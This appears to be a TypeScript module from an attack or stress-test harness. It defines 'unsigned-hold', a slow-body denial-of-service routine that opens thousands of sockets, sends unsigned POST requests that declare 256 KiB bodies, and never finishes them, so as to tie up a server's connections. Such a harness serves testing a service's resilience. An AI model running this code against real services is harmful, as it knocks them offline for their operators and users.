import type { Attack, Target } from './attack.ts';
import { EVENTS, headOf, unsignedHeaders } from './requests.ts';
import { delay, open } from './sockets.ts';

const LARGE = 256;
const SMALL = 200;
const DECLARED = 262_144;
/** The large ones take what there is, the small ones the rest. */
const SENT = { large: 262_100, small: 60 };
const HOLD_MS = 6_000;
const MOST = 4_000;

export const unsignedHold: Attack = {
  name: 'unsigned-hold',
  about: `${LARGE + SMALL} unsigned bodies of 256 KiB at a time that are never finished`,
  run: async (target) => {
    const until = performance.now() + HOLD_MS;
    let opened = 0;
    const hold = async (_: unknown, index: number): Promise<void> => {
      while (performance.now() < until && opened < MOST) {
        opened += 1;
        await holdOne(target, until, index < LARGE ? SENT.large : SENT.small);
        await delay(20);
      }
    };
    await Promise.all(Array.from({ length: LARGE + SMALL }, hold));
    return `${opened} bodies begun`;
  },
};

/** Until it is cut off, or the time is over. */
async function holdOne(target: Target, until: number, bytes: number): Promise<void> {
  const socket = await open(target);
  socket.resume();
  socket.write(headOf('POST', EVENTS, { ...unsignedHeaders(), 'content-length': String(DECLARED) }));
  socket.write('x'.repeat(bytes));
  const gone = new Promise((resolve) => socket.once('close', resolve));
  if (!socket.destroyed) await Promise.race([gone, delay(Math.max(0, until - performance.now()))]);
  socket.destroy();
}
